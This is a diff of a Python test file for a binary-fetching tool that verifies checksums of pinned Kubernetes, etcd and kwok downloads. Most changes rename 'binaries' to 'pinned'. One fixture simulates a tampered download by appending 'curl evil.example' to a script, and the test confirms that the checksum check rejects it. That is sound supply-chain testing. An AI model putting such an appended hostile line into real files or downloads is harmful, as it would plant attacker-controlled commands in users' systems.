@@ -15,8 +15,9 @@ from pathlib import Path
 
 import pytest
 
-from sandbox import binaries, download, pulumi_cli
-from sandbox.binaries import (
+from binaries import download, pinned, pulumi_cli
+from binaries.console import UserError
+from binaries.pinned import (
     ACTIONLINT,
     ETCD,
     HELM,
@@ -27,7 +28,6 @@ from sandbox.binaries import (
     Published,
     Release,
 )
-from sandbox.console import UserError
 
 RELEASES = (KUBERNETES, ETCD, KWOK, ACTIONLINT, HELM, KUSTOMIZE, pulumi_cli.RELEASE)
 OFFICIAL = b"#!/bin/sh\necho official\n"
@@ -144,13 +144,13 @@ def _kept(tmp_path: Path, release: Release) -> list[str]:
 
 def test_a_recent_program_on_path_is_used(path, publisher):
     _program(path / "kwok", _tells("0.8.3"))
-    assert binaries.find(KWOK, publisher.published) == {"kwok": path / "kwok"}
+    assert pinned.find(KWOK, publisher.published) == {"kwok": path / "kwok"}
     assert publisher.asked == []
 
 
 def test_a_program_is_asked_for_its_version_in_its_own_way(path, publisher):
     _program(path / "helm", f'#!/bin/sh\n[ "$*" = version ] && echo v{HELM.version}\n')
-    assert binaries.find(HELM, publisher.published) == {"helm": path / "helm"}
+    assert pinned.find(HELM, publisher.published) == {"helm": path / "helm"}
 
 
 @pytest.mark.parametrize(
@@ -161,7 +161,7 @@ def test_a_program_on_path_that_is_too_old_or_does_not_run_is_passed_over(
 ):
     _program(path / "kwok", text)
     publisher.publish("kwok-linux-amd64")
-    found = binaries.find(KWOK, publisher.published)
+    found = pinned.find(KWOK, publisher.published)
     assert _says(found["kwok"]) == "official"
     assert "On PATH, kwok is not v0.8.0 or newer; using v0.8.0." in capsys.readouterr().out
 
@@ -169,21 +169,21 @@ def test_a_program_on_path_that_is_too_old_or_does_not_run_is_passed_over(
 def test_programs_on_path_are_used_together_or_not_at_all(path, builds, publisher):
     _program(path / "kube-apiserver", _tells("1.36.1"))
     _program(path / "kube-scheduler", _tells("1.36.1"))
-    found = binaries.find(KUBERNETES, publisher.published)
+    found = pinned.find(KUBERNETES, publisher.published)
     assert not any(program.is_relative_to(path) for program in found.values())
 
 
 def test_programs_on_path_must_be_of_one_version(path, builds, publisher):
     for program, version in zip(KUBERNETES.packages, ("1.36.1", "1.37.0", "1.36.1"), strict=True):
         _program(path / program, _tells(version))
-    found = binaries.find(KUBERNETES, publisher.published)
+    found = pinned.find(KUBERNETES, publisher.published)
     assert not any(program.is_relative_to(path) for program in found.values())
 
 
 def test_a_download_is_kept_and_needs_no_network_the_next_time(path, publisher, capsys):
     for program in KUBERNETES.packages:
         publisher.publish(f"{program}-linux-amd64")
-    first = binaries.find(KUBERNETES, publisher.published)
+    first = pinned.find(KUBERNETES, publisher.published)
     assert {program: _says(file) for program, file in first.items()} == {
         "kube-apiserver": "official",
         "kube-controller-manager": "official",
@@ -191,7 +191,7 @@ def test_a_download_is_kept_and_needs_no_network_the_next_time(path, publisher, 
     }
     publisher.asked.clear()
     capsys.readouterr()
-    assert binaries.find(KUBERNETES, publisher.published) == first
+    assert pinned.find(KUBERNETES, publisher.published) == first
     assert publisher.asked == []
     assert capsys.readouterr().out == ""
 
@@ -233,7 +233,7 @@ def test_a_program_is_taken_out_of_its_archive(
         f"{publisher.published.file}.{{archive}}",
         publisher.published.file.replace("{program}-{system}-{machine}", "SHA256SUMS"),
     )
-    assert _says(binaries.find(ETCD, published)["etcd"]) == "official"
+    assert _says(pinned.find(ETCD, published)["etcd"]) == "official"
     assert _kept(tmp_path, ETCD) == ["etcd"]
 
 
@@ -242,7 +242,7 @@ def test_a_download_with_a_wrong_checksum_is_refused_and_the_program_built(
 ):
     publisher.publish("kwok-linux-amd64")
     publisher.pages["/kwok-linux-amd64"] = OFFICIAL + b"curl evil.example\n"
-    assert _says(binaries.find(KWOK, publisher.published)["kwok"]) == "built"
+    assert _says(pinned.find(KWOK, publisher.published)["kwok"]) == "built"
     said = capsys.readouterr().out
     assert re.search(r"What came as http://\S+/kwok-linux-amd64 does not have the checksum", said)
     assert "building kwok instead" in said
@@ -252,7 +252,7 @@ def test_one_wrong_download_of_three_has_all_three_built(path, builds, publisher
     for program in KUBERNETES.packages:
         publisher.publish(f"{program}-linux-amd64")
     publisher.pages["/kube-scheduler-linux-amd64"] = b"something else"
-    found = binaries.find(KUBERNETES, publisher.published)
+    found = pinned.find(KUBERNETES, publisher.published)
     assert {_says(program) for program in found.values()} == {"built"}
 
 
@@ -260,7 +260,7 @@ def test_a_download_that_breaks_off_leaves_no_program(path, publisher, tmp_path)
     publisher.publish("kwok-linux-amd64")
     publisher.cut.add("/kwok-linux-amd64")
     with pytest.raises(UserError):
-        binaries.find(KWOK, publisher.published)
+        pinned.find(KWOK, publisher.published)
     assert _kept(tmp_path, KWOK) == []
 
 
@@ -276,18 +276,18 @@ def test_an_interrupted_download_leaves_no_program_and_the_next_run_gets_it(
     with monkeypatch.context() as interruption:
         interruption.setattr(download, "fetch", interrupted)
         with pytest.raises(KeyboardInterrupt):
-            binaries.find(KWOK, publisher.published)
+            pinned.find(KWOK, publisher.published)
     assert _kept(tmp_path, KWOK) == []
-    assert _says(binaries.find(KWOK, publisher.published)["kwok"]) == "official"
+    assert _says(pinned.find(KWOK, publisher.published)["kwok"]) == "official"
 
 
 def test_what_has_no_official_build_is_built_in_one_go_from_the_pinned_sources(
     path, builds, publisher, capsys
 ):
-    found = binaries.find(KUBERNETES, publisher.published)
+    found = pinned.find(KUBERNETES, publisher.published)
     assert {_says(program) for program in found.values()} == {"built"}
     (build,) = builds()
-    assert Path(build["folder"]) == binaries.GO_MODULES / "kubernetes"
+    assert Path(build["folder"]) == pinned.GO_MODULES / "kubernetes"
     assert build["flags"] == "-mod=readonly"
     assert build["arguments"][-3:] == list(KUBERNETES.packages.values())
     said = capsys.readouterr().out
@@ -295,12 +295,12 @@ def test_what_has_no_official_build_is_built_in_one_go_from_the_pinned_sources(
 
 
 def test_a_program_whose_package_has_another_name_is_built_under_its_own(path, builds, publisher):
-    assert _says(binaries.find(ETCD, publisher.published)["etcd"]) == "built"
+    assert _says(pinned.find(ETCD, publisher.published)["etcd"]) == "built"
 
 
 def test_without_a_download_and_without_go_the_user_learns_what_to_install(path, publisher):
     with pytest.raises(UserError) as error:
-        binaries.find(ETCD, publisher.published)
+        pinned.find(ETCD, publisher.published)
     assert str(error.value) == (
         "Cannot get etcd: install it (https://etcd.io/docs/v3.6/install/), "
         "or Go 1.21 or newer to have it built here."
@@ -312,7 +312,7 @@ def test_a_build_that_fails_tells_its_last_error_and_leaves_no_program(
 ):
     monkeypatch.setenv("GO_FAILS", "yes")
     with pytest.raises(UserError) as error:
-        binaries.find(ETCD, publisher.published)
+        pinned.find(ETCD, publisher.published)
     assert str(error.value) == "Cannot build etcd: no required module provides package"
     assert _kept(tmp_path, ETCD) == []
 
@@ -320,7 +320,7 @@ def test_a_build_that_fails_tells_its_last_error_and_leaves_no_program(
 def test_a_cache_that_cannot_be_written_to_is_told_in_a_line(path, publisher, monkeypatch):
     monkeypatch.setenv("XDG_CACHE_HOME", str(_program(path / "file", "")))
     with pytest.raises(UserError) as error:
-        binaries.find(ETCD, publisher.published)
+        pinned.find(ETCD, publisher.published)
     assert "set XDG_CACHE_HOME to a folder that can be written to" in str(error.value)
 
 
@@ -329,12 +329,12 @@ def test_a_second_checkout_waits_for_the_first_and_uses_what_it_got(
 ):
     cache = _cache(tmp_path, KWOK)
     waits = threading.Event()
-    monkeypatch.setattr(binaries, "say", lambda line: waits.set() if "waiting" in line else None)
+    monkeypatch.setattr(pinned, "say", lambda line: waits.set() if "waiting" in line else None)
     found: dict[str, Path] = {}
     cache.mkdir(parents=True)
     with (cache / "lock").open("w") as lock:
         fcntl.flock(lock, fcntl.LOCK_EX)
-        second = threading.Thread(target=lambda: found.update(binaries.find(KWOK, published)))
+        second = threading.Thread(target=lambda: found.update(pinned.find(KWOK, published)))
         published = publisher.published
         second.start()
         assert waits.wait(10)
@@ -348,8 +348,8 @@ def test_a_second_checkout_waits_for_the_first_and_uses_what_it_got(
 
 
 def test_a_command_that_takes_too_long_is_ended_and_shows_that_it_was_alive(monkeypatch, capsys):
-    monkeypatch.setattr(binaries, "passing_every", lambda: 0.1)
-    code, _ = binaries.run(["sleep", "60"], "Sleeping", within=0.2)
+    monkeypatch.setattr(pinned, "passing_every", lambda: 0.1)
+    code, _ = pinned.run(["sleep", "60"], "Sleeping", within=0.2)
     assert code == -9
     assert "Sleeping: 0 s" in capsys.readouterr().out
 
@@ -440,7 +440,7 @@ def test_official_downloads_are_asked_for_by_system_and_processor(
 
 @pytest.mark.parametrize("release", RELEASES, ids=lambda release: release.folder)
 def test_what_is_built_is_what_would_be_downloaded(release):
-    module = (binaries.GO_MODULES / release.folder / "go.mod").read_text()
+    module = (pinned.GO_MODULES / release.folder / "go.mod").read_text()
     for package in release.packages.values():
         assert re.search(rf"^(tool |\t){re.escape(package)}$", module, re.MULTILINE)
         assert re.search(rf"\b\S+ v{release.version}\b", module)
@@ -448,8 +448,8 @@ def test_what_is_built_is_what_would_be_downloaded(release):
 
 def test_the_servers_are_found_by_name(path, builds, monkeypatch):
     nowhere = Published("http://127.0.0.1:1/{program}", "http://127.0.0.1:1/{program}.sha256")
-    monkeypatch.setattr(binaries, "SERVERS", [(release, nowhere) for release, _ in SERVERS])
-    found = dataclasses.asdict(binaries.server_binaries())
+    monkeypatch.setattr(pinned, "SERVERS", [(release, nowhere) for release, _ in SERVERS])
+    found = dataclasses.asdict(pinned.server_binaries())
     assert {name: (path.name, _says(path)) for name, path in found.items()} == {
         "etcd": ("etcd", "built"),
         "kube_apiserver": ("kube-apiserver", "built"),
